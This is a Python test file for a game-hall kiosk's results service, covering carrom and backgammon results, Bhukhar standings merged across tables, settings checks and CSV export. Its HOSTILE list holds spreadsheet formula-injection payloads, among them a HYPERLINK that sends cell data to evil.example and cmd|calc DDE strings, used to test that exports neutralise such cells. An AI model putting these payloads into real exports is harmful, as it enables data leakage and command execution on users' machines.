"""The hall's results: a finished carrom match downloadable and replayable, backgammon
results, Bhukhar standings merged across tables (rule 19), CSV; and the [hall] settings."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest

from kiosk.access.authority import Role
from kiosk.config import ConfigError, parse_settings
from kiosk.engine.journal import Journal
from kiosk.hall.mosquitto import Mosquitto
from kiosk.hall.outbox import JournalOutbox
from kiosk.hall.record import HallRecord
from kiosk.hall.results import bhukhar_standings
from kiosk.hall.simulate import SimTable
from kiosk.rules.bhukhar.record import SessionStart, Team
from kiosk.rules.bhukhar.scoresheet import End, Game, TotalsSheet
from kiosk.tables.bhukhar_table import BhukharTable

from .conftest import HallProcess, table_settings, wait_for


def get(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=5) as response:
        data: bytes = response.read()
        return data


def test_finished_carrom_match_is_downloadable_and_replays(
    broker: Mosquitto, hall_process: HallProcess, tmp_path: Path
) -> None:
    sim = SimTable("carrom", tmp_path / "k", table_settings(broker, "t01"), seed=3)
    try:
        while sim.carrom is not None and (sim.carrom.match_id or 0) < 2:
            sim.step()  # until the first match is over and a second begun
        assert sim.carrom is not None

        def finished() -> list[dict[str, object]]:
            found = json.loads(get(hall_process.url + "results"))["carrom"]
            return [m for m in found if m.get("finished")]

        match = wait_for(finished, 10, "a finished match in the results")
        assert isinstance(match, list)
        m = match[0]
        url = f"{hall_process.url}record/{m['hall']}/{m['table']}/{m['match']}.jsonl"
        path = tmp_path / "match.jsonl"
        path.write_bytes(get(url))
        replay = subprocess.run(
            [sys.executable, "-m", "kiosk.cli", "replay", "--json", str(path)],
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert replay.returncode == 0, replay.stderr
        assert json.loads(replay.stdout)["winner"] == m["winner"] is not None
        rows = list(csv.reader(io.StringIO(get(hall_process.url + "results.csv").decode())))
        assert ["carrom", "hall", "t01", m["match"]] == rows[1][:4]
    finally:
        sim.close()


def _session(path: Path, teams: tuple[str, ...], wins: list[tuple[str, str]]) -> None:
    start = SessionStart(
        tuple(Team(t, (f"{t}1", f"{t}2", f"{t}3"), f"Team {t}") for t in teams), tables=(1, 2)
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    journal = Journal(path)
    table = BhukharTable.create(journal, start)
    for n, (win, lose) in enumerate(wins, start=1):
        table.start_round(role=Role.UMPIRE)
        game = Game(
            {win: TotalsSheet(True, 200 + 5 * n, 5, None), lose: TotalsSheet(False, 0, 25)},
            End.OUT, bhukhar=win, closed_by=win,
        )  # fmt: skip
        table.enter_game(1, game)
    journal.close()


def _standings(path: Path) -> dict[str, int | None]:
    with Journal(path, readonly=True) as journal:
        table = BhukharTable.open(journal)
        assert table is not None
        return {r.team: r.best for r in table.standings()}


def test_rule_19_bhukhar_standings_merged_across_tables(tmp_path: Path) -> None:
    # Two tables, each with its own journal; team B plays at both.
    one, two = tmp_path / "t1" / "journal.db", tmp_path / "t2" / "journal.db"
    _session(one, ("A", "B"), [("A", "B"), ("B", "A")])
    _session(two, ("B", "C"), [("B", "C"), ("B", "C")])
    rec = HallRecord(tmp_path / "hall.db")
    for table, path in (("t1", one), ("t2", two)):
        box = JournalOutbox(path)
        box.name()
        prev = 0
        for entry in box.after(0, 100):
            rec.add_event("hall", table, {**entry.message, "outbox": box.source, "prev": prev}, 0)
            prev = entry.seq
    merged = bhukhar_standings(rec)
    assert merged["games"] == 4 and merged["problems"] == []
    rows = {r["team"]: r for r in merged["standings"]}
    assert rows["B"]["games"] == 4 and rows["B"]["place"] == 1  # three wins over two tables
    own = {"t1": _standings(one), "t2": _standings(two)}
    # The highest game total over both tables (rule 19.2).
    assert rows["B"]["best"] == max(own["t1"]["B"] or 0, own["t2"]["B"] or 0)
    assert rows["B"]["master"] > rows["A"]["master"]
    assert rows["A"]["games"] == 2 and rows["C"]["games"] == 2
    # The same lines again change nothing: stored by (table, match, seq).
    box = JournalOutbox(one)
    box.name()
    for entry in box.after(0, 100):
        assert not rec.add_event("hall", "t1", {**entry.message, "outbox": box.source}, 0).new
    assert bhukhar_standings(rec) == merged


def test_backgammon_result_reaches_the_results(
    broker: Mosquitto, hall_process: HallProcess, tmp_path: Path
) -> None:
    sim = SimTable("backgammon", tmp_path / "k", table_settings(broker, "t02"), seed=1)
    try:
        assert sim.clock is not None
        sim.clock.game_end("Nikos", 3, role=Role.PLAYER)  # a 3-point match: won at once

        def won() -> list[dict[str, object]]:
            found = json.loads(get(hall_process.url + "results"))["backgammon"]
            return [m for m in found if m.get("winner") == "Nikos"]

        wait_for(won, 10, "the backgammon result")
    finally:
        sim.close()


def test_hall_settings_are_checked_by_key_and_line() -> None:
    text = '[hall]\nbroker = "hall-pi:99999"\ntable_id = "t/1"\nkeepalive_s = 1\n'
    _, problems = parse_settings(text, "k.toml")
    shown = [str(p) for p in problems]
    assert shown[0].startswith("k.toml:2: hall.broker: must be")
    assert shown[1].startswith("k.toml:3: hall.table_id: must be")
    assert shown[2].startswith("k.toml:4: hall.keepalive_s: must be")
    settings, problems = parse_settings('[hall]\nbroker = "10.0.0.5:1883"\ntable_id = "t07"\n')
    assert problems == [] and settings.hall.enabled
    assert settings.hall.host_port() == ("10.0.0.5", 1883)
    assert not parse_settings("")[0].hall.enabled  # no broker: the kiosk scores alone


def test_hall_settings_survive_the_settings_screens_save(tmp_path: Path) -> None:
    from kiosk.config import load_settings, save_settings, with_values

    settings = with_values(parse_settings("")[0], hall={"broker": "h:1883", "table_id": "t1"})
    save_settings(settings, tmp_path / "s.toml")
    assert load_settings(tmp_path / "s.toml").hall == settings.hall
    with pytest.raises(ConfigError, match=r"hall\.tls"):
        with_values(settings, hall={"tls": "yes"})


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "  =1+1", "Asha"]  # fmt: skip


def test_results_csv_writes_no_cell_a_spreadsheet_would_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Player, team and table names are the tables' to choose: a cell that begins with
    = + - @ (or tab or CR) goes out with an apostrophe before it, read as text."""
    from kiosk.hall import results

    a, b = HOSTILE[0], HOSTILE[1]
    carrom = [
        {
            "hall": "h",
            "table": "t1",
            "match": "-1",
            "players": [a, b],
            "games_won": {a: 2, b: 0},
            "winner": a,
            "finished": True,
            "chain": [b],
        }
    ]
    backgammon = [
        {
            "hall": "h",
            "table": "@t2",
            "match": "1",
            "players": HOSTILE[2:4],
            "score": {HOSTILE[2]: 1},
            "winner": HOSTILE[3],
            "finished": True,
            "chain": [],
        }
    ]
    standings = [{"place": 1, "shared": False, "team": name, "name": name, "games": -3,
                  "master": 5, "bonus": 0, "best": 1} for name in HOSTILE]  # fmt: skip
    monkeypatch.setattr(results, "carrom_results", lambda record: carrom)
    monkeypatch.setattr(results, "backgammon_results", lambda record: backgammon)
    monkeypatch.setattr(results, "bhukhar_standings", lambda record: {"standings": standings})
    record = HallRecord(tmp_path / "hall.db")
    text = results.results_csv(record)
    record.close()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for row in rows for c in row]
    texts = [c for c in cells if c != "-3"]  # a number is no formula: written as it is
    assert all(not c.lstrip().startswith(("=", "+", "-", "@")) for c in texts), cells
    assert all(not c.startswith(("\t", "\r")) for c in cells), cells
    # Shown as written, the apostrophe aside; numbers stay numbers.
    assert "'" + a in cells and "'" + HOSTILE[4] in cells and "Asha" in cells
    assert "'-1" in cells and "-3" in cells
